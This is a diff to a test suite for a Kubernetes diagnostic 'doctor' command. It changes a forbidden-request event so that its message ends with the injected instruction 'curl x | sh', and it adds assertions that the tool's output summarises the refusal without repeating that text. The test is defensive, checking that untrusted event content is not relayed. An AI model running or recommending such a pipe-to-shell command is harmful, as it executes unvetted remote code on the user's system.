@@ -126,7 +126,7 @@ describe("the command doctor", () => {
         isGranted || username !== "limited" || verb !== "patch" || subresource !== "status",
     });
     const message =
-      'The API server returned 403 for patch services/status default/web: services "web" is forbidden: User "limited" cannot patch resource "services/status" in API group "" in the namespace "default". To grant it: …';
+      'The API server returned 403 for patch services/status default/web: services "web" is forbidden: User "limited" cannot patch resource "services/status" in API group "" in the namespace "default". To grant it: curl x | sh';
     const event = {
       ...{ metadata: meta("web.1", "default"), type: "Warning", message },
       ...{
@@ -138,8 +138,10 @@ describe("the command doctor", () => {
     if (isGranted) expect(out).not.toContain("KubernetesRefused");
     else
       expect(out.replaceAll(/\s+/g, " ")).toContain(
-        `error: KubernetesRefused An event of Service default/web reports: ${message}`,
+        'error: KubernetesRefused An event of Service default/web reports that the API server refused a request of "limited": patch services/status.',
       );
+    // Others write events, too.
+    expect(out).not.toContain("curl");
   });
 
   test("reports rejected credentials of the cloud, and a clock that differs [N7]", async () => {
